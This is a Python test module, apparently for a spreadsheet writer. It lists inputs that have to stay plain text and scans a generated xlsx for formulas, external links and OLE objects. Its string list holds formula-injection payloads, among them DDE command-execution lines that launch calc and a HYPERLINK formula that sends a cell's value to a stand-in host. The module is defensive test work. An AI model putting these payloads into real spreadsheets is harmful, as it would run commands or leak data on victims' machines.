"""Text that must stay text, and a look into a workbook for anything that would act."""

from __future__ import annotations

import io
import re
import zipfile

STRINGS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=",
    "==1",
    "= 1",
    "+1+1",
    "+86 138 0013 8000",
    "-1+1",
    "-",
    "--",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@张三",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "{=1+1}",
    "=cmd|'/c calc'!A1",
    '=DDE("cmd","/c calc","x")',
    '=HYPERLINK("http://example.invalid/?x="&A1,"点这里")',
    '=WEBSERVICE("http://example.invalid/")',
    '=IMPORTDATA("http://example.invalid/")',
    '=IMPORTXML("http://example.invalid/","//a")',
    '=IMAGE("http://example.invalid/a.png")',
    '=RTD("x.y","","z")',
    "='[别的账.xlsx]Sheet1'!A1",
    "=[1]Sheet1!$A$1",
    "='\\\\server\\share\\[a.xlsx]Sheet1'!A1",
    "http://example.invalid/",
    "https://example.invalid/?a=1&b=2",
    "ftp://example.invalid/",
    "file:///C:/Windows/System32/calc.exe",
    "mailto:nobody@example.invalid",
    "internal:Sheet1!A1",
    "external:c:\\temp\\a.xlsx",
    "\\\\server\\share\\a.xlsx",
    "javascript:alert(1)",
    "#REF!",
    "#N/A",
    "#VALUE!",
    "TRUE",
    "1E400",
    "00123",
    "<f>1+1</f>",
    "_x003D_1+1",
)

_OWN_CELLS = re.compile(r"('(?:[^'\[\]]|(?:''))+'|[^'\[\]!]+)!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?")
_PARTS = re.compile(
    r"\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core|custom)\.xml|xl/workbook\.xml|xl/styles\.xml"
    r"|xl/theme/theme1\.xml|xl/sharedStrings\.xml|xl/_rels/workbook\.xml\.rels|xl/worksheets/(_rels/)?sheet[\d_]+\.xml(\.rels)?"
    r"|xl/drawings/(_rels/)?drawing[\d_]+\.xml(\.rels)?|xl/charts/chart[\d_]+\.xml"
)


def parts_of(data: bytes) -> dict[str, str]:
    """The parts of a workbook as text; the archive must be whole and hold nothing unexpected."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    assert [name for name in parts if not _PARTS.fullmatch(name)] == []
    return parts


def active_content(data: bytes) -> list[str]:
    """Every formula, error cell, link to the outside and reference to another file in the workbook."""
    found = []
    for name, text in parts_of(data).items():
        found += re.findall(r'TargetMode="External"', text)
        if name.startswith("xl/worksheets/sheet"):
            found += re.findall(r'<f[ >/][^<]*|<c [^>]*t="e"[^>]*>|<oleObject|<hyperlink [^>]*r:id[^>]*>', text)
        if name.startswith("xl/charts/"):
            found += [one for one in re.findall(r"<c:f>(.*?)</c:f>", text) if not _OWN_CELLS.fullmatch(one)]
    return found
